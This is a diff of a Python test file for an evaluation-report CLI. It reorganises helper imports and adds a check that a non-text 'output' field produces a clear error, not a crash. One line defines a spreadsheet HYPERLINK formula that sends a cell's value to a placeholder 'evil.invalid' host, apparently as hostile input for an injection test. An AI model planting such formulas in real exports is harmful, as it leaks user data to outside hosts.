@@ -7,7 +7,8 @@ import csv
 import json
 from pathlib import Path
 
-from report_helpers import clue, level1_tasks, write_run
+from tests.helpers.cli import clue
+from tests.helpers.fake_runs import level1_tasks, write_run
 
 # Folder names: anything but "/".
 FORMULA = '=HYPERLINK("https:evil.invalid?leak="&A1,"click")'
@@ -48,7 +49,6 @@ def test_a_nan_in_a_prediction_row_is_shown_not_a_crash(tmp_path):
     run = write_run(tmp_path / "run", "org/model", {"meqsum": {"rouge1": [0.5, 0.25, 0.75]}})
     rows = [json.loads(line) for line in (run / "predictions" / "meqsum.jsonl").read_text().splitlines()]
     rows[1]["metrics"]["rouge1"] = float("nan")
-    rows[2]["output"] = float("nan")
     (run / "predictions" / "meqsum.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))  # writes NaN
     out = tmp_path / "report"
     proc = clue("report", str(run), "--out", str(out), "--show-items")
@@ -57,3 +57,9 @@ def test_a_nan_in_a_prediction_row_is_shown_not_a_crash(tmp_path):
     page = (out / "report.html").read_text(encoding="utf-8")
     # The item browser shows scores as the tables do; a NaN shows as NaN, not as a crash or a number.
     assert "rouge1 NaN" in page and "rouge1 50.0" in page
+    # An output that is not text is not a prediction row: the typed reader names the file, line and field.
+    rows[2]["output"] = float("nan")
+    (run / "predictions" / "meqsum.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+    proc = clue("report", str(run), "--out", str(out), "--show-items")
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    assert "meqsum.jsonl: line 3: field 'output': expected text, found float" in proc.stderr
